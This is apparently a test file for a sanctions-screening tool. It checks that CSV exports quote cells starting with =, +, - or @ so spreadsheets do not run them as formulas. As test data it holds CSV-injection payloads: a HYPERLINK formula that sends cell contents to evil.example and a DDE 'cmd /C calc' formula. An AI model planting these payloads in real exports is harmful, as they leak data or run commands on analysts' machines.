"""CSV exports never hand a spreadsheet a formula: screen-file results and the audit log export.

Files are written for real and read back with the csv module, as an analyst's spreadsheet would get them.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path

import typer
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from sanctionwatch.cli.audit import audit_app
from sanctionwatch.db.engine import connect
from sanctionwatch.model import Entity, Name
from sanctionwatch.registry.audit import AuditLog, record_hash
from sanctionwatch.screening.batch import screen_file
from sanctionwatch.screening.screener import Screener
from sanctionwatch.sources.csvsafe import FORMULA_STARTS, formula_safe_row, original_text

HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none())))
def test_quoting_is_exactly_undone_and_leaves_numbers_alone(cells: list[object]) -> None:
    safe = formula_safe_row(cells)
    for before, after in zip(cells, safe, strict=True):
        if isinstance(before, str):
            assert isinstance(after, str) and not runs_as_formula(after)
            assert original_text(after) == before
        else:
            assert after is before


def test_only_cells_a_spreadsheet_would_run_are_quoted() -> None:
    row = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "plain", "a=b", "", -0.5, 3]
    assert formula_safe_row(row) == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "''=1", "plain", "a=b", "", -0.5, 3,
    ]  # fmt: skip
    assert original_text("'plain") == "'plain"  # a quote the data had is the data's


def test_screen_file_csv_quotes_hostile_ids_and_keeps_scores_numbers(tmp_path: Path) -> None:
    screener = Screener.from_entities([Entity("ofac-sdn", "1", "Person", [Name("KIM Jong Un")])])
    queries = tmp_path / "queries.csv"
    with queries.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "name", "birth_date"])
        writer.writerows([query_id, "Kim Jong Un", ""] for query_id in HOSTILE_IDS)
        writer.writerow(["=bad-date", "Kim Jong Un", "1984-99-99"])
    output = tmp_path / "hits.csv"

    screen_file(screener, queries, output, workers=1)

    rows = read_csv(output)
    assert [original_text(r["id"]) for r in rows] == [*HOSTILE_IDS, "=bad-date"]
    assert not any(runs_as_formula(cell) for r in rows for cell in r.values())
    assert [r["id"] for r in rows][:2] == ["'" + HOSTILE_IDS[0], "'+1+1"]
    assert all(0 < float(r["score"]) <= 1 and r["rank"] == "1" for r in rows[:4])
    assert "birth_date" in rows[4]["error"]


def test_audit_csv_export_quotes_formulas_and_still_lets_the_chain_be_recomputed(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'registry.db'}"
    engine = connect(url)
    try:
        log = AuditLog(engine)
        log.record(actor="@attacker", action="-note", subject="=cmd|' /C calc'!A0", details={"n": 1})
        log.record(actor="ana", action="note", subject="'=already quoted", details={"n": 2})
        head = log.head().hash
    finally:
        engine.dispose()
    target = tmp_path / "audit.csv"
    cli = typer.Typer()
    cli.add_typer(audit_app, name="audit")

    result = CliRunner().invoke(cli, ["audit", "export", "--db", url, "--format", "csv", "-o", str(target)])

    assert result.exit_code == 0, result.output
    rows = read_csv(target)
    assert not any(runs_as_formula(cell) for r in rows for cell in r.values())
    assert (rows[0]["actor"], rows[0]["action"], rows[0]["subject"]) == (
        "'@attacker", "'-note", "'=cmd|' /C calc'!A0",
    )  # fmt: skip
    assert rows[1]["subject"] == "''=already quoted"
    prev = "0" * 64
    for shown in rows:
        r = {name: original_text(cell) for name, cell in shown.items()}
        assert r["prev_hash"] == prev
        assert r["hash"] == record_hash(
            seq=int(r["seq"]),
            at=datetime.fromisoformat(r["at"]),
            actor=r["actor"],
            action=r["action"],
            subject=r["subject"],
            details=json.loads(r["details"]),
            list_versions=json.loads(r["list_versions"]),
            engine_version=r["engine_version"],
            prev_hash=r["prev_hash"],
        )
        prev = r["hash"]
    assert prev == head
